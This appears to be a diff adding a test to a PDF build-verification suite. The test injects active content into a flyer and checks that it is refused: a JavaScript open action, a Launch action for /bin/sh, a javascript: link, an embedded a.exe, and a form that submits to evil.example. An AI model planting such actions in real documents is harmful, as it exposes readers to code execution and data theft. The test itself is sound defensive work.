@@ -552,6 +552,51 @@ def test_a_pdf_that_is_not_one_is_refused(shards, arena, tmp_path):
     refused(shards, tmp_path, [shard], shard / FLYER, "not a PDF a build wrote")
 
 
+def _with(pdf, change: str) -> None:
+    """Give the pikepdf document ``pdf`` one piece of active content."""
+    import pikepdf
+
+    page = pdf.pages[0]
+    if change == "script on opening":
+        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
+            S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
+    elif change == "launch in a link":
+        page.Annots[0].A = pikepdf.Dictionary(S=pikepdf.Name.Launch,
+                                              F=pikepdf.String("/bin/sh"))
+    elif change == "javascript: link":
+        page.Annots[0].A = pikepdf.Dictionary(S=pikepdf.Name.URI,
+                                              URI=pikepdf.String("javascript:alert(1)"))
+    elif change == "attached file":
+        pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(
+            Names=pikepdf.Array([pikepdf.String("a.exe"), pdf.make_indirect(
+                pikepdf.Dictionary(Type=pikepdf.Name.Filespec))])))
+    elif change == "form submitted on a page action":
+        page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(
+            S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/")))
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(("change", "said"), [
+    ("script on opening", "holds a /OpenAction entry"),
+    ("launch in a link", "holds a /Launch action"),
+    ("javascript: link", "holds a link to 'javascript:alert(1)'"),
+    ("attached file", "holds a /EmbeddedFiles entry"),
+    ("form submitted on a page action", "holds a /AA entry"),
+])
+def test_a_pdf_with_active_content_is_refused_even_with_its_hash(shards, arena, tmp_path,
+                                                                change, said):
+    import pikepdf
+
+    shard = arena("a")
+    with pikepdf.open(shard / FLYER, allow_overwriting_input=True) as pdf:
+        assert pdf.pages[0].get("/Annots"), "the flyer's links: the attack needs one"
+        _with(pdf, change)
+        pdf.save(shard / FLYER)
+    edit(shard, lambda data: rehash(entry(data, FLYER), shard / FLYER))
+    line = refused(shards, tmp_path, [shard], shard / FLYER, said)
+    assert line.endswith("which a build never writes: build the shard again"), line
+
+
 @pytest.mark.slow
 def test_a_clean_merge_still_equals_the_shards(shards):
     merged = manifest_of(shards["merged"])
